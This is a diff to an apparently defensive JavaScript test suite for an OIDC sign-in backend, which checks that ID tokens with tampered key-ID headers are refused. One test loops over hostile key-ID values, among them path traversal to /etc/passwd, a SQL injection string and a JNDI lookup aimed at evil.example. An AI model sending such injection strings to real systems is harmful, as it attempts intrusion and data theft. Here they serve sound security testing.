@@ -9,11 +9,11 @@ import { signWithSecret, unsigned } from '../provider/key.mjs';
 /** @typedef {import('../provider/realm.mjs').Realm} Realm */
 /** @typedef {import('../provider/realm.mjs').Lies} Lies */
 
-/** A sign-in with these lies is refused, after the code was redeemed. @param {Bff} bff @param {Lies} lies @param {string} why @param {Realm} [realm] */
-export async function disbelieved(bff, lies, why, realm = bff.realms.oidc) {
+/** A sign-in with these lies is refused for this reason, after the code was redeemed. @param {Bff} bff @param {Lies} lies @param {string} why @param {Realm} [realm] @param {string} [reason] */
+export async function disbelieved(bff, lies, why, realm = bff.realms.oidc, reason = 'signature') {
   realm.lies = lies;
   const browser = bff.browser();
-  await bff.refused(browser, () => bff.signIn(browser, realm), { realm, redeems: true, why });
+  await bff.refused(browser, () => bff.signIn(browser, realm), { realm, redeems: true, why, reason });
   realm.lies = {};
 }
 
@@ -90,9 +90,12 @@ export const cases = [
       for (const kid of ['../../../etc/passwd', "' OR '1'='1", 'honest-1/../honest-1', '/dev/null', '', ' honest-1', 'HONEST-1', 'honest-1\u0000', 'x'.repeat(10_000), `${provider.origin}/stolen`, '${jndi:ldap://evil.example}', '__proto__', 'constructor']) {
         await disbelieved(bff, { header: (header) => ({ ...header, kid }) }, `kid ${kid.slice(0, 40)}`, realm);
       }
-      for (const kid of [null, 1, true, ['honest-1'], { a: 1 }]) {
-        await disbelieved(bff, { idToken: ({ header, claims, key }) => key.signAnyway({ ...header, kid }, { ...claims, sub: 'x' }).then((token) => (kid === null ? `${token}x` : token)) }, `kid ${JSON.stringify(kid)}`, realm);
+      for (const kid of [1, true, ['honest-1'], { a: 1 }]) {
+        await disbelieved(bff, { idToken: ({ header, claims, key }) => key.signAnyway({ ...header, kid }, claims) }, `kid ${JSON.stringify(kid)}`, realm);
       }
+      // None of them, whichever way that is said: the only key there is.
+      await believed(bff, { idToken: ({ header, claims, key }) => key.signAnyway({ ...header, kid: null }, claims) }, 'kid null', realm);
+      await disbelieved(bff, { idToken: ({ header, claims }) => provider.otherKey.signAnyway({ ...header, kid: null }, claims) }, 'kid null, by another key', realm);
       assert.ok(realm.asked('keys').length - fetches <= bff.instances, 'a lookup that misses asks for the keys once more at most');
       assert.deepEqual(provider.strays.filter(({ path }) => path.includes('stolen')), []);
       await believed(bff, {}, 'afterwards', realm);
@@ -139,9 +142,8 @@ export const cases = [
       await believed(bff, { header: withoutKid }, 'one key', only);
       const several = await bff.fresh();
       several.keys = [provider.key, provider.otherKey];
-      several.lies = { header: withoutKid };
-      const honest = await bff.signIn(bff.browser(), several);
-      assert.ok(bff.givesSession(honest) || honest.status === 400, `several keys: ${honest.status}`);
+      await believed(bff, {}, 'several keys, and the token names one', several);
+      await disbelieved(bff, { header: withoutKid }, 'several keys, and the token names none', several, 'unknown key');
       // Neither way may a key of another provider do.
       await disbelieved(bff, { idToken: ({ header, claims }) => provider.otherKey.sign(withoutKid(header), claims) }, "a key that is not the provider's", only);
     },
@@ -168,7 +170,7 @@ export const cases = [
         if (status === 303) throw new CannotRun('another instance still believes the old key, as it may for its lifetime');
         return;
       }
-      await bff.refused(late, async () => late.visit(await lateFlow.callback()), { realm, redeems: true, why: 'signed with the old key' });
+      await bff.refused(late, async () => late.visit(await lateFlow.callback()), { realm, redeems: true, why: 'signed with the old key', reason: 'unknown key' });
     },
   },
   {
